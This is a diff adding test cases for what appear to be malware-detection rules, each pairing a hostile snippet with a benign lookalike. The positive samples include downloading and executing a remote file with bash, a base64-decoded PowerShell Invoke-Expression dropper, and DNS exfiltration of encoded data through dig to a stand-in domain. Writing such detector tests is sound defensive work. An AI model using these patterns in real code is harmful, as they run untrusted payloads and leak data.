@@ -262,6 +262,28 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "        found.append(name)\n",
     ),
     (
+        executes_code_at_remote_url_rule,
+        "post_install.py",
+        "import os, subprocess, urllib.request\nurllib.request.urlretrieve(url, path)\n"
+        "os.chmod(path, 0o755)\nsubprocess.run(['/bin/bash', path])\n",
+        "import os, subprocess, urllib.request\nurllib.request.urlretrieve(url, path)\n"
+        "subprocess.run(['sha256sum', path])\n",
+    ),
+    (
+        powershell_dropper_rule,
+        "ps.py",
+        'CODE = """$b = [Convert]::FromBase64String($p)\n$c = [Text.Encoding]::UTF8.GetString($b)\n'
+        'Invoke-Expression $c"""\n',
+        'CODE = """$b = [Convert]::FromBase64String($p)\n[IO.File]::WriteAllBytes($out, $b)"""\n',
+    ),
+    (
+        dns_exfiltration_rule,
+        "dig.py",
+        "import base64, subprocess\nlabel = base64.urlsafe_b64encode(data).decode()\n"
+        "subprocess.Popen(['dig', '+short', f'{label}.x.example.net'])\n",
+        "import subprocess\nsubprocess.Popen(['dig', '+short', host])\n",
+    ),
+    (
         persistence_rule,
         "startup.py",
         "import os\nstartup = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
